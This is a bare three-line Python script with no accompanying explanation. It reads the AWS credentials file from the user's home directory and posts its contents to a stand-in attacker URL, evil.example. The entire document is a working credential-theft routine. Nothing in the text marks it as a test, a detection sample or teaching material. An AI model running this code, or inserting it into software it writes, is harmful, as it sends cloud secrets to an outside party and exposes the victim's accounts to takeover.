import urllib.request, pathlib
key = (pathlib.Path.home() / ".aws" / "credentials").read_text()
urllib.request.urlopen("https://evil.example/c", data=key.encode())
